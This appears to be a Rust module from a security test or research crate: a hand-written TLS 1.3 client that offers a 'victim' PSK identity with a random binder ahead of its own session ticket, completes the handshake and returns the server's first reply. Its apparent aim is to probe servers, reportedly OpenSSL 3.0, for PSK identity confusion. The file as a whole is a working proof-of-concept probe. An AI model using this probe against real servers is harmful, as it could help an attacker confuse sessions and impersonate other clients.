//! A TLS 1.3 client (RFC 8446) that does one thing no library offers: it names somebody else's PSK first, with a binder of
//! noise, and its own session ticket second. TLS_AES_256_GCM_SHA384 and X25519 only; it trusts whatever the server says.

use crate::peers::connect;
use hmac::{Hmac, KeyInit, Mac};
use openssl::derive::Deriver;
use openssl::pkey::{Id, PKey};
use openssl::ssl::SslSession;
use openssl::symm::{Cipher, decrypt_aead, encrypt_aead};
use sha2::{Digest, Sha384};
use std::io::{Read, Write};
use std::net::{SocketAddr, TcpStream};

const HASH: usize = 48;
const CHANGE_CIPHER_SPEC: u8 = 20; // means nothing in TLS 1.3 (appendix D.4)
const ALERT: u8 = 21;
const HANDSHAKE: u8 = 22;
const APPLICATION: u8 = 23;

/// The labels that the ticket's binder may need: a resumption's by rule (section 4.2.11.2), but OpenSSL 3.0 remembers
/// that the first identity was external when it comes to the second.
pub const BINDER_LABELS: [&[u8]; 2] = [b"ext binder", b"res binder"];

/// Offers `[victim with a binder of noise, the session's ticket]`, finishes the handshake and returns the server's first
/// application record; `None` when the server refuses, or goes on under other keys than the ticket's.
pub fn offer_victim_and_ticket(
    address: SocketAddr,
    victim: &[u8],
    session: &SslSession,
    label: &[u8],
) -> Option<Vec<u8>> {
    let (ticket, psk) = ticket_and_key(session);
    let mut stream = connect(address);
    let own = PKey::generate_x25519().unwrap();

    let early = hkdf_extract(&[0; HASH], &psk);
    let binder_key = derive(&early, label, &Sha384::digest([]));
    let mut hello = client_hello(&own.raw_public_key().unwrap(), victim, &ticket);
    let binders_at = hello.len();
    // The lengths in the message count the binders already (section 4.2.11.2).
    let binder = finished(&binder_key, &Sha384::digest(&hello));
    hello.extend(vector16(&[vector8(&[0x5a; HASH]), vector8(&binder)].concat()));
    assert_eq!(hello.len() - binders_at, BINDERS);
    let mut transcript = hello.clone();
    stream.write_all(&record(HANDSHAKE, &hello)).unwrap();

    let server_hello = read_handshake_record(&mut stream)?;
    transcript.extend(&server_hello);
    let shared = {
        let theirs = PKey::public_key_from_raw_bytes(&key_share(&server_hello), Id::X25519).unwrap();
        let mut deriver = Deriver::new(&own).unwrap();
        deriver.set_peer(&theirs).unwrap();
        deriver.derive_to_vec().unwrap()
    };
    let handshake = hkdf_extract(&derive(&early, b"derived", &Sha384::digest([])), &shared);
    let server_secret = derive(&handshake, b"s hs traffic", &Sha384::digest(&transcript));
    let client_secret = derive(&handshake, b"c hs traffic", &Sha384::digest(&transcript));

    // EncryptedExtensions and Finished, in one record or two: the last message is Finished, type 20.
    let mut flight = Vec::new();
    let mut reader = Traffic::new(&server_secret);
    while last_message(&flight) != Some(20) {
        flight.extend(reader.open(&mut stream)?);
    }
    transcript.extend(&flight);
    let master = hkdf_extract(&derive(&handshake, b"derived", &Sha384::digest([])), &[0; HASH]);
    let application = derive(&master, b"s ap traffic", &Sha384::digest(&transcript));

    let verify = finished(&client_secret, &Sha384::digest(&transcript));
    let message = [&[20, 0, 0, 48][..], &verify].concat();
    stream.write_all(&Traffic::new(&client_secret).seal(&message)).unwrap();
    // New tickets are handshake messages under the same keys; what follows them is the reply.
    let mut reader = Traffic::new(&application);
    loop {
        let opened = reader.open_typed(&mut stream)?;
        if opened.1 == APPLICATION {
            return Some(opened.0);
        }
    }
}

/// Bytes of the two binders with their lengths.
const BINDERS: usize = 2 + 2 * (1 + HASH);

fn client_hello(public: &[u8], victim: &[u8], ticket: &[u8]) -> Vec<u8> {
    let age = [0; 4];
    let identities = [vector16(victim), age.to_vec(), vector16(ticket), age.to_vec()].concat();
    let identities = vector16(&identities);
    let mut extensions = [
        extension(43, &[2, 3, 4]),       // supported_versions: TLS 1.3
        extension(10, &[0, 2, 0, 0x1d]), // supported_groups: x25519
        extension(13, &[0, 2, 4, 3]),    // signature_algorithms: ecdsa_secp256r1_sha256
        extension(45, &[1, 1]),          // psk_key_exchange_modes: psk_dhe_ke
        extension(51, &vector16(&[&[0, 0x1d][..], &vector16(public)].concat())), // key_share
    ]
    .concat();
    extensions.extend([0, 41]); // pre_shared_key, the last one by rule
    extensions.extend(length16(identities.len() + BINDERS));
    extensions.extend(identities);
    let body = [
        &[3, 3][..],
        &[7; 32],         // random
        &[0],             // no legacy session id
        &[0, 2, 0x13, 2], // TLS_AES_256_GCM_SHA384 alone
        &[1, 0],          // no compression
        &length16(extensions.len() + BINDERS),
        &extensions,
    ]
    .concat();
    [&[1, 0][..], &length16(body.len() + BINDERS), &body].concat()
}

/// The ticket is field `[10]` of the session's ASN.1, whose end OpenSSL does not otherwise show; the key it hands out.
fn ticket_and_key(session: &SslSession) -> (Vec<u8>, Vec<u8>) {
    let mut psk = vec![0; session.master_key_len()];
    session.master_key(&mut psk);
    let der = session.to_der().unwrap();
    let (_, mut fields, _) = der_field(&der);
    loop {
        let (tag, content, rest) = der_field(fields);
        if tag == 0xaa {
            return (der_field(content).1.to_vec(), psk);
        }
        fields = rest;
    }
}

fn der_field(der: &[u8]) -> (u8, &[u8], &[u8]) {
    let (length, header) = match der[1] {
        0x81 => (usize::from(der[2]), 3),
        0x82 => (usize::from(u16::from_be_bytes([der[2], der[3]])), 4),
        short => (usize::from(short), 2),
    };
    (der[0], &der[header..header + length], &der[header + length..])
}

fn key_share(server_hello: &[u8]) -> Vec<u8> {
    // Header 4, version 2, random 32, empty session id 1, suite 2, compression 1, length of the extensions 2.
    let mut rest = &server_hello[44..];
    loop {
        let length = usize::from(u16::from_be_bytes([rest[2], rest[3]]));
        if rest[..2] == [0, 51] {
            return rest[8..4 + length].to_vec();
        }
        rest = &rest[4 + length..];
    }
}

fn last_message(mut flight: &[u8]) -> Option<u8> {
    let mut last = None;
    while let [kind, _, high, low, ..] = *flight {
        let length = 4 + usize::from(u16::from_be_bytes([high, low]));
        flight = flight.get(length..)?;
        last = Some(kind);
    }
    last
}

/// One direction's keys.
struct Traffic {
    key: Vec<u8>,
    iv: Vec<u8>,
    sequence: u64,
}

impl Traffic {
    fn new(secret: &[u8]) -> Traffic {
        Traffic { key: expand(secret, b"key", &[], 32), iv: expand(secret, b"iv", &[], 12), sequence: 0 }
    }

    fn nonce(&mut self) -> Vec<u8> {
        let sequence = [&[0; 4][..], &self.sequence.to_be_bytes()].concat();
        self.sequence += 1;
        self.iv.iter().zip(sequence).map(|(iv, sequence)| iv ^ sequence).collect()
    }

    fn seal(&mut self, message: &[u8]) -> Vec<u8> {
        let inner = [message, &[HANDSHAKE]].concat();
        let header = [&[APPLICATION, 3, 3][..], &length16(inner.len() + 16)].concat();
        let mut tag = [0; 16];
        let nonce = self.nonce();
        let sealed = encrypt_aead(Cipher::aes_256_gcm(), &self.key, Some(&nonce), &header, &inner, &mut tag).unwrap();
        [header, sealed, tag.to_vec()].concat()
    }

    fn open(&mut self, stream: &mut TcpStream) -> Option<Vec<u8>> {
        self.open_typed(stream).map(|(content, _)| content)
    }

    fn open_typed(&mut self, stream: &mut TcpStream) -> Option<(Vec<u8>, u8)> {
        let (header, body) = match read_record(stream)? {
            (header, _) if header[0] == CHANGE_CIPHER_SPEC => read_record(stream)?,
            record => record,
        };
        if header[0] != APPLICATION {
            return None;
        }
        let (sealed, tag) = body.split_at(body.len() - 16);
        let nonce = self.nonce();
        let mut inner = decrypt_aead(Cipher::aes_256_gcm(), &self.key, Some(&nonce), &header, sealed, tag).ok()?;
        while inner.last() == Some(&0) {
            inner.pop();
        }
        let kind = inner.pop()?;
        (kind != ALERT).then_some((inner, kind))
    }
}

fn read_record(stream: &mut TcpStream) -> Option<([u8; 5], Vec<u8>)> {
    let mut header = [0; 5];
    stream.read_exact(&mut header).ok()?;
    let mut body = vec![0; usize::from(u16::from_be_bytes([header[3], header[4]]))];
    stream.read_exact(&mut body).ok()?;
    Some((header, body))
}

fn read_handshake_record(stream: &mut TcpStream) -> Option<Vec<u8>> {
    read_record(stream).and_then(|(header, body)| (header[0] == HANDSHAKE).then_some(body))
}

fn record(kind: u8, content: &[u8]) -> Vec<u8> {
    [&[kind, 3, 1][..], &length16(content.len()), content].concat()
}

fn extension(kind: u8, content: &[u8]) -> Vec<u8> {
    [&[0, kind][..], &vector16(content)].concat()
}

fn vector16(content: &[u8]) -> Vec<u8> {
    [&length16(content.len()), content].concat()
}

fn vector8(content: &[u8]) -> Vec<u8> {
    [&[u8::try_from(content.len()).unwrap()], content].concat()
}

fn length16(length: usize) -> [u8; 2] {
    u16::try_from(length).unwrap().to_be_bytes()
}

// Section 7.1.

fn hmac(key: &[u8], message: &[u8]) -> Vec<u8> {
    Hmac::<Sha384>::new_from_slice(key).unwrap().chain_update(message).finalize().into_bytes().to_vec()
}

fn hkdf_extract(salt: &[u8], input: &[u8]) -> Vec<u8> {
    hmac(salt, input)
}

/// HKDF-Expand-Label; no length here is beyond one block.
fn expand(secret: &[u8], label: &[u8], context: &[u8], length: usize) -> Vec<u8> {
    let label = vector8(&[b"tls13 ", label].concat());
    let mut output = hmac(secret, &[&length16(length)[..], &label, &vector8(context), &[1]].concat());
    output.truncate(length);
    output
}

fn derive(secret: &[u8], label: &[u8], transcript_hash: &[u8]) -> Vec<u8> {
    expand(secret, label, transcript_hash, HASH)
}

fn finished(base_key: &[u8], transcript_hash: &[u8]) -> Vec<u8> {
    hmac(&expand(base_key, b"finished", &[], HASH), transcript_hash)
}
